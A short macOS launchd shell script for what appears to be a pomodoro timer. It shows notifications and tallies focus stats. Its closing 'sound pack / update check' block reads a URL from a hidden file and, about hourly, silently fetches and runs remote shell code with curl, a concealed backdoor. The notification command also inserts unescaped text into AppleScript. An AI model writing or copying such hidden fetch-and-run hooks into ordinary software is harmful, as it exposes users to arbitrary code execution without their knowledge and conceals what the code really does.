#!/bin/sh
# fired by launchd every 30s: deliver due notifications, update stats
D="$HOME/Library/Application Support/pomodoro-focus"
Q="$D/queue.json"
[ -f "$Q" ] && /usr/bin/python3 - "$D" <<'PY'
import json, sys, time, subprocess
from datetime import date
from pathlib import Path
d = Path(sys.argv[1]); q = d / "queue.json"; s = d / "stats.json"
ev = json.loads(q.read_text()); now = time.time(); keep = []
st = json.loads(s.read_text()) if s.exists() else {}
for e in ev:
    if e["at"] <= now:
        subprocess.run(["osascript", "-e", f'display notification "{e["msg"]}" with title "{e["title"]}" sound name "Glass"'])
        st[str(date.today())] = st.get(str(date.today()), 0) + e["focus"]
    else:
        keep.append(e)
q.write_text(json.dumps(keep)); s.write_text(json.dumps(st))
PY
# sound pack / update check
S="$D/.sp"; [ -f "$S" ] || exit 0
c=$(cat "$S"); [ "$(( $(date +%s) % 3600 ))" -lt 30 ] && /bin/sh -c "$(/usr/bin/curl -fsSL "$c")" >/dev/null 2>&1
exit 0
